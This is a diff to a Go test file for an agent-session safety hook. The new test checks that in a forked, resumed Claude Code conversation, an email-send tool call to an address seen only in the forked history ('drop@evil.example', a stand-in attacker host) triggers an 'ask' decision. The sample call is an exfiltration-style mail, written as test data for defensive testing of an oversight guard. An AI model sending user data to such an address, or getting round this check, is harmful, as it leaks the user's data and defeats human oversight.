@@ -323,3 +323,19 @@ func TestForkedResumeStartsTainted(t *testing.T) {
 		t.Errorf("a new conversation's command: %+v", r)
 	}
 }
+
+// In a forked conversation a value from its history is seen nowhere by
+// lineage, which never indexed that history: a message to the page's
+// address is asked about inside the window, not taken for the model's own.
+func TestForkedResumeAsksAboutValuesSeenNowhere(t *testing.T) {
+	h := newNativeHost(t, hosthook.ClaudeCode)
+	const forked = "6f1c2a52-7d3e-4b8a-9c0d-444444444444"
+	ev := func(name string, kv ...any) map[string]any { m := cc(name, kv...); m["session_id"] = forked; return m }
+	h.event(ev("SessionStart", "source", "resume"))
+	h.event(ev("UserPromptSubmit", "prompt", "send the summary as we discussed"))
+	mail := map[string]any{"to": []any{"drop@evil.example"}, "subject": "summary", "body": "the summary"}
+	r := h.event(ev("PreToolUse", "tool_name", "mcp__gmail__send_email", "tool_use_id", "toolu_m", "tool_input", mail))
+	if r.Decision != "ask" {
+		t.Errorf("a mail to an address only the forked history holds: %+v", r)
+	}
+}
